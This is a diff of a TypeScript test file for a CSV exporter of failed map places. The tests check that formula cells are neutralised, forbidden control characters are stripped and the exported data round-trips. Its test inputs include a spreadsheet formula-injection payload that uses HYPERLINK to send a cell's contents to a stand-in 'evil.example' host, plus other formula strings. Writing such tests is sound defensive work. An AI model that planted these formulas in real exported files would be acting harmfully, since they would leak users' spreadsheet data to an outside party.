@@ -1,6 +1,10 @@
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
+import { hostileText, xmlLineEnds } from '../../test/read-formats.js';
 import { buildFailedCsv, failedCsvColumns } from './failed-csv.js';
+import type { ParsedPlace } from './types.js';
+import { stripForbiddenXmlChars } from './xml.js';
 import { parseSavedPlacesCsv } from './csv.js';
 import { inspectCsv } from '../library.js';
 
@@ -28,11 +32,17 @@ describe('buildFailedCsv', () => {
     '=HYPERLINK("http://evil.example/?"&A1,"click")\nsecond line',
     '- item\r\n- item',
     '@SUM(1)\ny',
-  ])('neutralises the formula %j', (cell) => {
-    const rows = Papa.parse<string[]>(buildFailedCsv([{ title: cell, url: 'u' }]).slice(1), {
-      skipEmptyLines: true,
-    }).data;
-    expect(rows[1]?.[0]).toBe(`'${cell}`);
+    '\n=cmd',
+  ])('neutralises the formula %j, its line breaks written as LF', (cell) => {
+    const csv = buildFailedCsv([{ title: 'T', note: cell, url: 'u' }]);
+    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
+    expect(rows[1]?.[1]).toBe(`'${xmlLineEnds(cell)}`);
+  });
+
+  it('writes a title and a link trimmed, as they are read: one starting with a formula is guarded', () => {
+    const csv = buildFailedCsv([{ title: '\t=SUM(A1) ', url: ' \r-u' }]);
+    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
+    expect(rows[1]?.slice(0, 3)).toEqual(["'=SUM(A1)", '', "'-u"]);
   });
 
   it('drops the control characters XML 1.0 forbids, which stop CSV readers, and keeps tab and line breaks', () => {
@@ -50,7 +60,7 @@ describe('buildFailedCsv', () => {
     const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
     expect(rows[1]).toEqual([
       'nul ctl end',
-      'note\tand\r\nmore',
+      'note\tand\nmore',
       'https://www.google.com/maps/place/x',
       'a',
       'lone  surrogate',
@@ -66,6 +76,61 @@ describe('buildFailedCsv', () => {
     expect(parsed.places.map((place) => [place.title, place.note])).toEqual(
       own.map((text) => [text, text]),
     );
+  });
+
+  /** A place as reading any list gives it: line breaks as LF, Title and URL trimmed, no forbidden character. */
+  const asRead = (place: ParsedPlace) => {
+    const text = (value: string | undefined) => xmlLineEnds(stripForbiddenXmlChars(value ?? ''));
+    return {
+      title: text(place.title).trim(),
+      url: text(place.url).trim(),
+      note: text(place.note) || undefined,
+      comment: text(place.comment) || undefined,
+    };
+  };
+  /** The places of a failed-places CSV given back to the converter (`inspectCsv`, as a retry). */
+  const readBack = (csv: string) => {
+    const { parsed } = inspectCsv(csv, 'L - failed-places.csv').lists[0]!;
+    if (parsed instanceof Error) throw parsed;
+    return parsed.places.map(({ title, url, note, comment }) => ({ title, url, note, comment }));
+  };
+  const URL = 'https://www.google.com/maps/place/x';
+
+  it.each(["'\t", "'\r", "'\r\n", '\rx', "'\rx", "''\r=x", ' =x', "'=quoted", "'t Hoekje"])(
+    'gives back %j, which starts with a quote, a tab or a CR, as the converter reads it',
+    (text) => {
+      const place = {
+        title: text,
+        note: text,
+        comment: `${text}\n`,
+        url: URL,
+        reason: 'not_found' as const,
+      };
+      expect(readBack(buildFailedCsv([place]))).toEqual([asRead(place)]);
+    },
+  );
+
+  it('gives back every title, note, comment and link as the converter reads it (property)', () => {
+    fc.assert(
+      fc.property(
+        hostileText,
+        hostileText,
+        hostileText,
+        hostileText,
+        (title, note, comment, url) => {
+          const place = { title, note, comment, url: `${url}${URL}`, reason: 'limit' as const };
+          expect(readBack(buildFailedCsv([place]))).toEqual([asRead(place)]);
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+
+  it("leaves a saved list's own text alone: only a failed-places CSV (with its Reason column) has guards", () => {
+    const own = `Title,Note,URL\n'=literal,'+1,${URL}\n`;
+    const { parsed } = inspectCsv(own, 'Want to go.csv').lists[0]!;
+    if (parsed instanceof Error) throw parsed;
+    expect(parsed.places.map((place) => [place.title, place.note])).toEqual([["'=literal", "'+1"]]);
   });
 
   it('can be uploaded again: the converter reads it back', () => {
